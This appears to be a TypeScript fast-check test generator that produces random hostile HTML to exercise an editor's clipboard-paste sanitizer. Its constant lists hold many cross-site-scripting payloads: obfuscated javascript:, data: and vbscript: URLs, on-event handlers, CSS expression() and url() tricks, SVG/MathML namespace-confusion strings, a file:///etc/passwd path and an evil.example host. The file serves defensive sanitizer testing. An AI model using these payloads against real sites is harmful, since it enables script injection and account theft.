import fc from 'fast-check';
import { pasteAllowList } from '../../shared/document/html/paste-allow-list';

/**
 * Random HTML as a clipboard or a converted Word file could hold it, built
 * to attack the paste pipeline: executable and foreign-content elements,
 * `on…` handlers, `javascript:`/`data:`/`vbscript:` addresses hidden behind
 * case, entities, control characters and white space, CSS with `url()` and
 * `expression()`, the allow-list's own style alias, namespace confusion
 * (SVG/MathML/template/noscript around `<style>`), comments, CDATA and
 * unclosed or stray tags.
 */

const dangerousTags = [
  'script', 'style', 'img', 'svg', 'math', 'iframe', 'object', 'embed', 'template', 'noscript', 'form', 'input', 'textarea',
  'title', 'xmp', 'noembed', 'noframes', 'select', 'option', 'mglyph', 'mtext', 'annotation-xml', 'foreignObject', 'desc',
  'base', 'meta', 'link', 'video', 'audio', 'source', 'frameset', 'isindex', 'keygen', 'listing', 'plaintext', 'image', 'use',
] as const;

const tagName = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...pasteAllowList.tags) },
  { weight: 2, arbitrary: fc.constantFrom(...dangerousTags) },
  { weight: 1, arbitrary: fc.constantFrom('o:p', 'font', 'x', 'w:sdt', 'SCRIPT', 'ScRiPt', 'A', 'svg:script') },
);

const hiddenSchemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;script:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u2028javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '/relative/path',
  'https://example.org/ok',
  'http://example.org/?q=<script>',
  'mailto:press@example.gov.az',
  'https://javascript:alert(1)@example.org',
] as const;

const styleValues = [
  'font-weight:bold',
  'font-style:italic;text-decoration:underline line-through',
  'vertical-align:super',
  'mso-list:l0 level3 lfo1',
  'mso-list:Ignore',
  'display:none',
  'background:url(javascript:alert(1))',
  'width:expression(alert(1))',
  'behavior:url(#default#time2)',
  'color:red;background-image:url("data:image/svg+xml,<svg onload=alert(1)>")',
  '-moz-binding:url(http://evil.example/xbl#x)',
  'font-weight:700;list-style-type:decimal',
  'page-break-before:always',
  '\\66ont-weight:bold',
  'font-weight:bold/*</style><script>alert(1)</script>*/',
] as const;

const attribute = fc.oneof(
  fc.tuple(fc.constantFrom('onclick', 'onerror', 'onload', 'ONMOUSEOVER', 'onfocus', 'onbegin', 'onanimationstart'), fc.constant('alert(1)')),
  fc.tuple(fc.constantFrom('href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc', 'background', 'poster', 'data', 'HREF'), fc.constantFrom(...hiddenSchemes)),
  fc.tuple(fc.constantFrom('style', 'STYLE', pasteAllowList.styleAlias), fc.constantFrom(...styleValues)),
  fc.tuple(fc.constantFrom('aria-level', 'class', 'id', 'name', 'is', 'data-blocked-onclick', 'title'), fc.constantFrom('1', '9', '-3', '1e9', 'x', 'attributes', '"><script>alert(1)</script>')),
);

const attributeText = fc
  .tuple(attribute, fc.constantFrom('"', "'", ''))
  .map(([[name, value], quote]) => (quote === '' ? ` ${name}=${value.replace(/[\s>]/gu, '')}` : ` ${name}=${quote}${value.replaceAll(quote, '&quot;')}${quote}`));

const text = fc.oneof(
  fc.constantFrom('Görüş', 'Встреча', 'plain text', '&lt;script&gt;alert(1)&lt;/script&gt;', '</', '<', ' & ', '<!--', '-->', ']]>', '\u0000', '\n', '&#0;', '&nbsp;', 'javascript:alert(1)'),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
);

const raw = fc.constantFrom(
  '<!-- <img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte mso 9]><xml><o:p></o:p></xml><![endif]-->',
  '</p><p>',
  '<br style="page-break-before:always">',
  '<hr>',
  '</noscript><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '<?xml version="1.0"?>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
);

type HtmlTree = { tag: string; attributes: string[]; children: HtmlTree[]; closed: boolean } | { text: string } | { raw: string };

const { tree } = fc.letrec<{ tree: HtmlTree }>((tie) => ({
  tree: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text.map((value) => ({ text: value })),
    raw.map((value) => ({ raw: value })),
    fc.record({
      tag: tagName,
      attributes: fc.array(attributeText, { maxLength: 3 }),
      children: fc.array(tie('tree'), { maxLength: 4 }),
      closed: fc.boolean(),
    }),
  ),
}));

function render(node: HtmlTree): string {
  if ('text' in node) return node.text;
  if ('raw' in node) return node.raw;
  const open = `<${node.tag}${node.attributes.join('')}>`;
  return `${open}${node.children.map(render).join('')}${node.closed ? `</${node.tag}>` : ''}`;
}

/** A random hostile HTML document or fragment, sometimes wrapped the way Word and Google Docs wrap the clipboard. */
export const hostileHtml: fc.Arbitrary<string> = fc
  .tuple(fc.array(tree, { minLength: 1, maxLength: 5 }), fc.constantFrom('', 'word', 'google'))
  .map(([nodes, wrapper]) => {
    const body = nodes.map(render).join('');
    if (wrapper === 'word') return `<html><head><style>p{mso-style:x}</style></head><body><!--StartFragment-->${body}<!--EndFragment--></body></html>`;
    if (wrapper === 'google') return `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1">${body}</b>`;
    return body;
  });
